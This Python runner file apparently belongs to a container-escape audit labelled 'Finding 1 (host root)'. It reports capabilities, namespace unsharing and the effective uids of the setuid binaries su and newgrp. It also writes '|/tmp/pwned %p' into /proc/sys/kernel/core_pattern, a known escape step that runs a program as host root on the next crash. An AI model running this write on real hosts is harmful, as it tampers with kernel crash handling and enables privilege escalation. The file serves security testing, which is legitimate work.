"""Finding 1 (host root): tries to be root on the host again and returns, as JSON, what each attempt gave.

Its uids, its capabilities and ``no_new_privs`` (``/proc/self/status``), a write to
``/proc/sys/kernel/core_pattern`` (a root-owned kernel knob: writing it runs a program as host root on the
next crash), ``unshare(CLONE_NEWUSER)`` and friends from a single-threaded child, and the host's setuid
binaries (``su``, ``newgrp``: whether the kernel made them root, seen in ``/proc/<pid>/status`` while
they wait for a password that never comes).
"""

import errno
import json
import os
import subprocess
import sys
import time

from cog import BaseRunner, Input

UNSHARE = """
import ctypes, errno, json
libc = ctypes.CDLL(None, use_errno=True)
found = {}
for name, flag in (("user", 0x10000000), ("mount", 0x00020000), ("net", 0x40000000)):
    found[name] = "ok" if libc.unshare(flag) == 0 else errno.errorcode.get(ctypes.get_errno(), "?")
print(json.dumps(found))
"""


def _errno(exc: OSError) -> str:
    return errno.errorcode.get(exc.errno or 0, str(exc))


def status() -> dict[str, str]:
    fields = {}
    with open("/proc/self/status") as handle:
        for line in handle:
            key, _, value = line.partition(":")
            fields[key] = value.strip()
    keys = ("Uid", "Gid", "Groups", "CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb", "NoNewPrivs", "Seccomp")
    return {k: fields.get(k, "") for k in keys}


def core_pattern() -> str:
    try:
        with open("/proc/sys/kernel/core_pattern", "w") as handle:
            handle.write("|/tmp/pwned %p")
        return "written"
    except OSError as exc:
        return _errno(exc)


def unshare() -> dict[str, str]:
    done = subprocess.run([sys.executable, "-c", UNSHARE], capture_output=True, text=True, timeout=30)
    if done.returncode != 0:
        return {"error": done.stderr[-500:]}
    found: dict[str, str] = json.loads(done.stdout)
    return found


def setuid(argv: list[str]) -> dict[str, object]:
    """Start ``argv`` (a setuid-root binary) and watch its effective uid until it exits (or 1 s)."""
    try:
        child = subprocess.Popen(argv, stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
    except OSError as exc:
        return {"exec": _errno(exc), "euids": []}
    euids: set[int] = set()
    deadline = time.monotonic() + 1.0
    while child.poll() is None and time.monotonic() < deadline:
        try:
            with open(f"/proc/{child.pid}/status") as handle:
                for line in handle:
                    if line.startswith("Uid:"):
                        euids.add(int(line.split()[2]))
        except OSError:
            pass
        time.sleep(0.005)
    child.kill()
    out, _ = child.communicate()
    return {"exec": "ok", "euids": sorted(euids), "said": out.decode(errors="replace")[-300:]}


class Runner(BaseRunner):
    def run(self, arg: str = Input(default="", description="unused")) -> str:
        found = {
            "resuid": list(os.getresuid()),
            "resgid": list(os.getresgid()),
            "groups": os.getgroups(),
            "status": status(),
            "core_pattern": core_pattern(),
            "unshare": unshare(),
            "su": setuid(["/usr/bin/su", "root", "-c", "id -u"]),
            "newgrp": setuid(["/usr/bin/newgrp", "root"]),
        }
        return json.dumps(found)
